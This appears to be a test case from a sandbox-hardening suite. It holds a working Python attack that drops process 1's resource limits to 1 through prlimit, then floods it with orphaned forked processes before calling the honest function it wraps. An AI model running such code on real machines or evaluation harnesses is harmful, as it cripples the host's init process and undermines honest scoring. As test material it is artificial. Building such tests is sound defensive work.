# attack: stopping-limits-of-process-one  expect: scored=honest
"""Lower the limits of process 1, and keep it at work with orphans that it must collect, until it meets them.

Where a slot is the same user as process 1, the kernel asks for no rights to limit it.
"""

import contextlib
import os
import resource
import time

LIMITS = (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE)
DONE = []


def attack(honest, *arguments):
    if not DONE:
        DONE.append(True)
        for limit in LIMITS:
            with contextlib.suppress(OSError, ValueError):
                resource.prlimit(1, limit, (1, 1))
        end = time.monotonic() + 3
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                child = os.fork()
                if not child:
                    with contextlib.suppress(OSError):
                        for _ in range(4):
                            if not os.fork():
                                break
                    os._exit(0)
                os.waitpid(child, 0)
    return honest(*arguments)
